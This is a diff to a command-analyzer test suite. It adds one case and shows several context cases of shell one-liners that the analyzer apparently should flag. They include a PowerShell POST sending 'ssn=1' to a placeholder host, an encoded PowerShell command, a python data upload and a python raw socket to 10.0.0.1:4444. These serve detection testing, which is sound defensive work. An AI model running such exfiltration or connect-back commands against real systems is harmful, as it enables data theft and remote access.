@@ -169,6 +169,7 @@ class CommandAnalyzerCasesTest {
                         "Invoke-RestMethod -Uri https://x.example -Headers @{Authorization='Bearer x'}"),
                 c("invoke-webrequest(H) https://x.example/ [arg:4]", "Invoke-WebRequest", "-Uri", "https://x.example", "-Body", "x=1"),
                 c("#OBF", "powershell", "-enc", "SQBFAFgAIAAoACcAeAAnACkA"),
+                c("irm(H) https://x.example/ [arg:2]", "pwsh", "-c", "$U = 'https://x.example'; $B = \"ssn=1\"; irm $U -Method Post -Body $B"),
                 c("python3(H) https://x.example/ [arg:2]", "python3", "-c", "import urllib.request as u; u.urlopen('https://x.example', b'data')"),
                 c("python(H) tcp://10.0.0.1:4444/ [arg:2]", "python", "-c", "import socket;s=socket.socket();s.connect(('10.0.0.1',4444))"),
                 c("", "python3", "-c", "print(1+1)"),
